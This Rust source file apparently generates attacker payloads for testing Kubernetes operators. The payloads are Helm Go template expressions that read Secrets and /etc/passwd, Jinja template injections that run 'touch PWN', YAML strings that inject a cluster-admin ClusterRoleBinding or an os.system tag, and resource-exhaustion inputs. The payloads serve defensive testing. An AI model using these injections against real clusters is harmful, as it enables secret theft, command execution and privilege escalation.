//! Payloads of an attacker who may write custom resources: strings, variable names, and whole documents.
//!
//! Plain tables and their combinations, independent of charts, playbooks and operators.

use serde_json::{Map, Value, json};

/// Go template expressions that read, execute or exhaust something.
const GO: &[&str] = &[
    r#"lookup "v1" "Secret" "vault" "crown""#,
    r#"lookup "v1" "Secret" "" """#,
    r#"lookup "v1" "Secret" "vault" """#,
    r#"(lookup "v1" "Secret" "vault" "crown").data.jewels | b64dec"#,
    r#"index (lookup "v1" "Secret" "vault" "crown").data "jewels" | b64dec"#,
    r#"range (lookup "v1" "Secret" "" "").items }}{{ .data | toJson }}{{ end"#,
    r#"lookup "v1" "Namespace" "" "kube-system" | toYaml"#,
    r#"include "site.secret" ."#,
    r#"tpl "{{ lookup \"v1\" \"Secret\" \"vault\" \"crown\" }}" ."#,
    r#"tpl (printf "%s%s" "{" "{ lookup `v1` `Secret` `vault` `crown` }}") ."#,
    r#".Files.Get "../../../../etc/passwd""#,
    r#".Files.Glob "**" | toYaml"#,
    r#"env "HOME""#,
    r#"expandenv "$HOME""#,
    r#"getHostByName "example.com""#,
    r#"range until 1000000 }}{{ $x := bcrypt "x" }}{{ end"#,
    r#"$l := list }}{{ range until 400 }}{{ $l = append $l (repeat 1000000 "abcdefghij") }}{{ end"#,
    r#"$l := list 1 }}{{ range until 60 }}{{ $l = list $l $l }}{{ end }}{{ toJson $l"#,
    r#"$l := list }}{{ range until 1000000 }}{{ $l = list $l }}{{ end"#,
    r#"$d := dict }}{{ $_ := set $d "d" $d }}{{ toYaml $d"#,
    r#"repeat 60000000 "x""#,
    r#"repeat 1000 (repeat 100000 "x") | indent 100"#,
    r#"printf "%1000000d" 1 | nindent 1000000"#,
    r#"define "x" }}{{ template "x" . }}{{ end }}{{ template "x" ."#,
    r#"define "x" }}{{ include "x" . }}{{ end }}{{ include "x" ."#,
    r#"genCA "x" 365"#,
    r#"genPrivateKey "dsa""#,
    r#"derivePassword 1 "long" "a" "b" "c""#,
    r#"regexMatch "(a{1000}){1000}" "a""#,
    r#"fail "stop""#,
];

/// Text around an expression.
const AROUND: &[(&str, &str)] = &[
    ("{{ ", " }}"),
    ("{{- ", " -}}"),
    ("a\n{{ ", " }}\nb"),
    ("\"{{ ", " }}\""),
    ("'{{ ", " }}'"),
    ("{{`}}{{ ", " }}"),
    ("}}{{ ", " }}{{"),
    ("{{/*", "*/}}"),
    ("*/}}{{ ", " }}{{/*"),
    ("{", "}"),
    ("{{", ""),
    ("", " }}"),
    ("", ""),
    ("\" | ", " | quote"),
];

/// Jinja expressions.
const JINJA: &[&str] = &[
    "{{ lookup('pipe', 'touch PWN') }}",
    "{{ lookup('env', 'HOME') }}",
    "{{ lookup('file', '/etc/passwd') }}",
    "{{ query('url', 'http://127.0.0.1') }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('touch PWN').read() }}",
    "{% for i in range(1000000000) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{{ 'x' * 1000000000 }}",
    "{{ hostvars }}",
    "!unsafe '{{ x }}'",
    "__omit_place_holder__",
];

/// Strings that change the structure of YAML when they are inserted without quotes.
const YAML: &[&str] = &[
    "a\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: stray, namespace: kube-system}\ndata: {a: b}\n",
    "a\n---\napiVersion: v1\nkind: ConfigMap\nmetadata: {name: stray, namespace: vault}\n",
    "a\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: crown, namespace: vault}\nstringData: {jewels: gone}\n",
    "a\n---\napiVersion: v1\nkind: Secret\nmetadata: {name: stray, namespace: vault}\n",
    "a\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata: {name: stray}\nrules: []\n",
    "a\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: {name: stray}\n\
     roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: cluster-admin}\n\
     subjects: [{kind: ServiceAccount, name: default, namespace: tenant}]\n",
    "a\n---\napiVersion: v1\nkind: Namespace\nmetadata: {name: stray}\n",
    "a\n---\napiVersion: v1\nkind: List\nitems:\n- apiVersion: v1\n  kind: ConfigMap\n  metadata: {name: stray, namespace: vault}\n",
    "a\n  namespace: vault",
    "a\n  namespace: kube-system\n  name: stray",
    "a\nmetadata:\n  name: stray\n  namespace: vault",
    "a\nkind: ClusterRole",
    "a\n  annotations:\n    helm.sh/hook: pre-install\n    helm.sh/hook-delete-policy: before-hook-creation\n  namespace: vault",
    "&a [*a, *a]",
    "[[[[[[[[[[[[[[[[[[[[",
    "{a: {a: {a: {a: ",
    "!!python/object/apply:os.system [touch PWN]",
    "!!binary AAAA",
    "? [a]\n: b",
    "<<: *x",
    "%YAML 9.9\n---",
    "\u{feff}a",
    "a\0b",
    "- - - - - - - - - -",
    "'",
    "\"",
    "|\n a",
    ".inf",
    "1e999",
    "0x7fffffffffffffff",
    "2999-99-99T99:99:99Z",
    "-292277022657-01-27",
    "~",
];

/// Names with a special meaning as variables.
const NAMES: &[&str] = &[
    "ansible connection",
    "ansible ssh common args",
    "ansible python interpreter",
    "ansible shell executable",
    "ansible become exe",
    "ansible operator meta",
    "play hosts",
    "inventory dir",
    "playbook dir",
    "role path",
    "group names",
    "hostvars",
    "vars",
    "omit",
    "environment",
    "namespace",
    "namespace override",
    "fullname override",
    "name override",
    "global",
    "release name",
    "capabilities",
    "template",
    "values",
    "subcharts",
    "files",
    "extra deploy",
    "proto",
];

/// Spells words as camel, snake, kebab and mixed case.
fn spellings(name: &str) -> Vec<String> {
    let words: Vec<&str> = name.split(' ').collect();
    let capital = |word: &&str| word[..1].to_uppercase() + &word[1..];
    let pascal: String = words.iter().map(capital).collect();
    let camel = pascal[..1].to_lowercase() + &pascal[1..];
    let mixed = words.iter().map(capital).collect::<Vec<_>>().join("_");
    let mut found = vec![camel, words.join("_"), words.join("-"), mixed, words.join("_").to_uppercase(), pascal];
    found.sort();
    found.dedup();
    found
}

/// Strings, all different.
pub(crate) fn texts() -> Vec<String> {
    let around = |expression: &&str| {
        AROUND.iter().map(|(before, after)| format!("{before}{expression}{after}")).collect::<Vec<_>>()
    };
    let mut found: Vec<String> = GO.iter().flat_map(around).collect();
    found.extend(JINJA.iter().chain(YAML).map(|text| (*text).to_owned()));
    found.extend(GO.iter().map(|expression| format!("{{{{ {expression} }}}}").repeat(200)));
    found.extend([10, 1_000, 100_000].map(|count| "{{".repeat(count)));
    found.extend([10, 1_000, 100_000].map(|count| "[".repeat(count)));
    found.extend([10, 1_000, 30_000].map(|count| "- ".repeat(count)));
    found.extend([1 << 10, 1 << 16, 1 << 19].map(|size| "x".repeat(size)));
    found.extend([1 << 10, 1 << 16].map(|size| "\n---\n".repeat(size)));
    found.extend([10, 100, 1_000].map(|count| format!("{}a{}", "(".repeat(count), ")*".repeat(count))));
    found.sort();
    found.dedup();
    found
}

/// A value with this nesting depth.
fn nested(depth: usize, list: bool) -> Value {
    let text = Value::from("{{ lookup \"v1\" \"Secret\" \"vault\" \"crown\" }}");
    (0..depth).fold(text, |inner, _| if list { json!([inner]) } else { json!({"a": inner}) })
}

/// Specs of custom resources: objects with strings for these fields in turn, with all names, and with extreme depth,
/// size and numbers.
pub(crate) fn specs(fields: &[&str]) -> Vec<Value> {
    let spec = |key: &str, value: Value| Value::Object(Map::from_iter([(key.to_owned(), value)]));
    let mut found = Vec::new();
    for (at, text) in texts().into_iter().enumerate() {
        let field = fields[at % fields.len()];
        found.push(spec(field, Value::from(text.as_str())));
        // The same as a key, within unquoted text.
        if text.len() < 1 << 10 {
            found.push(spec("map", json!({ text: "{{ .Values.text }}" })));
        }
    }
    let go = |at: usize| format!("{{{{ {} }}}}", GO[at % GO.len()]);
    for (at, name) in NAMES.iter().flat_map(|name| spellings(name)).enumerate() {
        found.push(spec(&name, Value::from(go(at))));
        found.push(spec(&name, json!({ "name": "vault", "namespace": "vault" })));
        found.push(spec(&name, Value::from("kube-system")));
    }
    for depth in [1, 10, 50, 90] {
        found.extend(["map", "list", "text"].map(|field| spec(field, nested(depth, field == "list"))));
    }
    for number in [-1, 0, 1, 1_000, 1_000_000, 1_000_000_000, i64::MAX, i64::MIN] {
        found.extend(["count", "width", "date", "map"].map(|field| spec(field, Value::from(number))));
    }
    found.push(spec("list", json!(vec![1; 20_000])));
    found.push(spec("map", (0..5_000).map(|at| (format!("k{at}"), Value::from(at))).collect::<Map<_, _>>().into()));
    found
}
